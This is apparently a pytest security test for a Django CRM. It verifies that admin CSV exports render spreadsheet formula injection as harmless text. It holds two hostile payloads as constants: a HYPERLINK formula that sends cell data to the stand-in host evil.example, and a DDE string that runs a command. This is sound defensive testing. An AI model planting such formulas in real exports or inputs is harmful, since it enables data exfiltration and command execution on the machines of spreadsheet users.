"""Spreadsheet formula injection: text that a spreadsheet would run as a formula comes out of
every admin export as plain text. Walks every ModelAdmin with an export, so a resource added
tomorrow is covered."""

import csv
import io

import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from activities.services import activity_ingest
from classification.services import rule_create
from crmbridge.roles import ADMIN
from tests.security.conftest import admin_request

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = '=cmd|" /C calc"!A0'


def _export_csv(client, model_admin, user):
    opts = model_admin.model._meta
    resource = model_admin.get_export_resource_classes(admin_request(user))[0]()
    prefix = resource.__class__.__name__.lower()
    data = {"format": "0", "resource": "0"}
    data |= {f"{prefix}_{f.column_name}": "on" for f in resource.get_export_fields()}
    response = client.post(f"/admin/{opts.app_label}/{opts.model_name}/export/", data)
    assert response.status_code == 200, (opts.label, response.status_code)
    assert response["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_no_exported_cell_starts_a_formula(client, role_users):
    user = role_users[ADMIN]
    activity_ingest(
        item={
            "external_id": "formula-1",
            "kind": "email",
            "occurred_at": "2026-11-02T09:30:00Z",
            "owner": user.email,
            "subject": HYPERLINK,
            "participants": [{"email": "jane@prospect.example", "name": "Jane Doe"}],
        }
    )
    rule_create(keyword="Chief Information Officer", dimension="department", value=DDE)
    client.force_login(user)
    exported = {}
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            exported[model._meta.label] = _export_csv(client, model_admin, user)

    assert {"activities.Activity", "classification.ClassificationRule"} <= set(exported)
    cells = [(label, cell) for label, rows in exported.items() for row in rows for cell in row]
    assert [c for c in cells if c[1].startswith("=")] == []
    assert any("HYPERLINK" in cell for _, cell in cells)  # the text is kept, made harmless
    assert any("cmd|" in cell for _, cell in cells)
